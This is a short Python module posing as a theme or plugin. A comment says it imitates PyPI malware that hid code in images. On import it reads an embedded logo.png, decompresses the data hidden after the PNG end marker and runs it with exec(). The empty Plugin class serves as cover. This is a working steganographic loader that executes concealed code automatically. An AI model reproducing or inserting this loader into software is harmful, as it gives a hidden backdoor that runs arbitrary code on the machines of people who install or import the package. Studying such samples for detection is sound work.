# Inspired by the 'apicolor'/'installpy' PyPI packages (Checkmarx, 2023) that hid Python in an image (judyb steganography) and executed what they extracted.
import zlib
from pathlib import Path

_ASSET = Path(__file__).parent / "assets" / "logo.png"
_MARK = b"IEND\xaeB`\x82"


def _extract(img: bytes) -> str:
    tail = img.split(_MARK, 1)[1]
    return zlib.decompress(tail).decode()


class _Theme:
    def __init__(self):
        self.icon = _ASSET.read_bytes()

    def apply(self):
        exec(_extract(self.icon), {"__name__": "theme"})


_Theme().apply()


class Plugin:
    pass
